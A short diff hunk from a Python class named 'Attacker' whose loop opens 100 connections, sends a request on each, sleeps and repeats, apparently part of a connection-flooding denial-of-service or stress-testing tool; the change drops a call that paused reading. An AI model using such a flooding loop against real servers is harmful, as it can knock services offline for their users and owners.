@@ -219,7 +219,6 @@ class Attacker:
         while True:
             sockets = [await self._open() for _ in range(100)]
             for socket in sockets:
-                socket.transport.pause_reading()
                 socket.write(request)
             await asyncio.sleep(5)
             for socket in sockets:
